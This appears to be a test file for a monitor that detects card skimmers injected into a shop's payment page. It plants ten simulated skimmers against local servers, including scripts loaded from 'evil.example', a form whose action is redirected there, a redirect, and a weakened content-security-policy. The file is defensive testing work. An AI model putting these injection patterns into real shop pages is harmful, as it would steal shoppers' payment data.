import { readFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, afterEach, expect, test } from 'vitest'
import { createTestDatabase } from '../../testing/index.ts'
import { inventory } from './inventory.ts'
import { readPaymentPageVisit } from './payment-page.repository.ts'
import { findDifferences, paymentPages } from './visit.ts'
import { watchPaymentPage } from './watch-payment-page.ts'

const page = `<!DOCTYPE html><html><head><link rel="stylesheet" href="/assets/page.css">
<style>body { margin: 0 }</style></head><body><a href="https://www.instagram.com/shop">Instagram</a>
<form action="/newsletter" method="post"><input name="email" type="email"></form>
<script>window.__reactRouterContext = {"basename":"/"}</script>
<script type="text/plain" data-modules="/assets/entry.js">import "/assets/entry.js"</script></body></html>`
const files: Record<string, string> = {
  '/assets/page.css': 'body { color: black }',
  '/assets/entry.js': 'import("./razorpay.js")',
  '/assets/razorpay.js': 'export const open = () => {}',
}
const headers = {
  'content-security-policy': "default-src 'self'; script-src 'self' https://checkout.razorpay.com",
  'x-content-type-options': 'nosniff',
}

type Respond = (request: IncomingMessage, response: ServerResponse) => void
const servers: ReturnType<typeof createServer>[] = []
async function serve(respond: Respond): Promise<string> {
  const server = createServer(respond)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  servers.push(server)
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}

type Reply = { body: string; headers: Record<string, string>; status?: number }
const serveShop = (tamper: (path: string, reply: Reply) => Reply = (_path, reply) => reply) =>
  serve(({ url = '/' }, response) => {
    const reply = tamper(url, { body: files[url] ?? page, headers })
    response.writeHead(reply.status ?? 200, reply.headers).end(reply.body)
  })

const own = await serveShop()
const shop = await createTestDatabase()
afterEach(() => {
  for (const server of servers.splice(own ? 1 : 0)) server.close().closeAllConnections()
})
afterAll(async () => {
  for (const server of servers) server.close().closeAllConnections()
  await shop.close()
})

const inBody = (added: string) => (path: string, reply: Reply) =>
  path.startsWith('/assets') ? reply : { ...reply, body: reply.body.replace('</body>', `${added}</body>`) }
const inPage = (from: string, to: string) => (path: string, reply: Reply) =>
  path.startsWith('/assets') ? reply : { ...reply, body: reply.body.replace(from, to) }
const withHeader = (name: string, value: string | undefined) => (path: string, reply: Reply) => {
  const { [name]: _former, ...others } = reply.headers
  return path.startsWith('/assets')
    ? reply
    : { ...reply, headers: value === undefined ? others : { ...others, [name]: value } }
}

const skimmers: [string, (path: string, reply: Reply) => Reply, RegExp][] = [
  [
    'a script of another host',
    inBody('<script src="https://cdn.evil.example/a.js"></script>'),
    /added script https:\/\/cdn/,
  ],
  [
    'an inline script',
    inBody('<script>send(card)</script>'),
    /added inline script which begins "send\(card\)"/,
  ],
  [
    'a changed script of the shop',
    (path, reply) => (path === '/assets/entry.js' ? { ...reply, body: `${reply.body};steal()` } : reply),
    /script \/assets\/entry\.js has another content/,
  ],
  [
    'a changed script that loads only when somebody pays',
    (path, reply) => (path === '/assets/razorpay.js' ? { ...reply, body: 'steal()' } : reply),
    /script \/assets\/razorpay\.js has another content/,
  ],
  [
    'an event handler',
    inBody('<img src="/x.png" onerror="steal()">'),
    /\/payment: the page has another content/,
  ],
  [
    'a form that sends elsewhere',
    inPage('action="/newsletter"', 'action="https://evil.example/"'),
    /the page has another content/,
  ],
  [
    'a redirect',
    (_path, reply) => ({ ...reply, status: 302, headers: { location: 'https://evil.example/' } }),
    /redirect to https:\/\/evil/,
  ],
  [
    'a missing policy',
    withHeader('content-security-policy', undefined),
    /header content-security-policy is missing/,
  ],
  [
    'a policy that lets in more',
    withHeader('content-security-policy', "default-src *; script-src * 'unsafe-inline'"),
    /header content-security-policy is default-src \*/,
  ],
  [
    'a preload header',
    withHeader('link', '<https://evil.example/a.js>; rel=modulepreload'),
    /header link is <https/,
  ],
]

/** @returns the lines of the log */
async function watch(seen: string): Promise<unknown[]> {
  const lines: unknown[] = []
  const collect = (...line: unknown[]) => void lines.push(line)
  const log = { error: collect, warn: collect }
  await watchPaymentPage({
    database: shop.database,
    log,
    publicUrl: () => seen,
    ownUrl: () => own,
    pauseMs: 1,
  })
  return lines
}

test('a payment page that arrives as it was sent has no differences', async () => {
  expect(await findDifferences({ own, seen: await serveShop() })).toEqual([])
})

test.each(skimmers)('finds %s', async (_what, tamper, expected) => {
  const differences = await findDifferences({ own, seen: await serveShop(tamper) })
  expect(differences).toContainEqual(expect.stringMatching(expected))
})

test('finds what the shop itself sends without a reason in the inventory', async () => {
  const changed = await serveShop(inBody('<script src="https://tags.example/t.js"></script>'))
  expect(await findDifferences({ own: changed, seen: changed })).toContainEqual(
    '/payment: nobody has given a reason for script https://tags.example/t.js',
  )
})

// Proves PAYPAGE-03.
test('a difference that passes, as during an upgrade, is not reported', async () => {
  let visits = 0
  const seen = await serveShop((path, reply) =>
    path === '/payment' && visits++ === 0 ? inBody('<script>a()</script>')(path, reply) : reply,
  )
  expect(await watch(seen)).toEqual([])
  expect(visits).toBe(2)
  expect(await readPaymentPageVisit(shop.database)).toMatchObject({ differences: [], failure: null })
})

// Proves PAYPAGE-02, PAYPAGE-03.
test.each([
  ['an inline script', (n: number) => `<script>/*${n}*/steal()</script>`],
  ['a script of another host', (n: number) => `<script src="https://evil.example/${n}.js?r=${n}"></script>`],
])('reports %s that is another one for each request', async (_what, tagOf) => {
  let requests = 0
  const differences = paymentPages.map((path) => expect.stringContaining(`${path}: added`))
  expect(await watch(await serveShop((path, reply) => inBody(tagOf(++requests))(path, reply)))).toEqual([
    [{ differences }, 'the payment page was changed on its way to shoppers'],
  ])
  expect(await readPaymentPageVisit(shop.database)).toMatchObject({ differences, failure: null })
})

test('an address that does not answer is a failed visit, which leaves what was found before', async () => {
  expect(await watch('http://127.0.0.1:9')).toEqual([
    [expect.anything(), 'the payment page could not be visited'],
  ])
  const visit = await readPaymentPageVisit(shop.database)
  expect(visit?.failure).toContain('http://127.0.0.1:9/checkout/payment')
  expect(visit?.differences).toHaveLength(paymentPages.length)
})

test('docs/payment-page.md is the inventory', () => {
  const document = readFileSync(new URL('../../../../docs/payment-page.md', import.meta.url), 'utf8')
  const rows = [...document.matchAll(/^\| (.+) \| .+ \|$/gm)].map(([, what]) => what)
  expect(rows.slice(1)).toEqual([...Object.keys(inventory), '`https://checkout.razorpay.com/v1/checkout.js`'])
  expect(document).toContain(`plants ${skimmers.length} skimmers`)
})
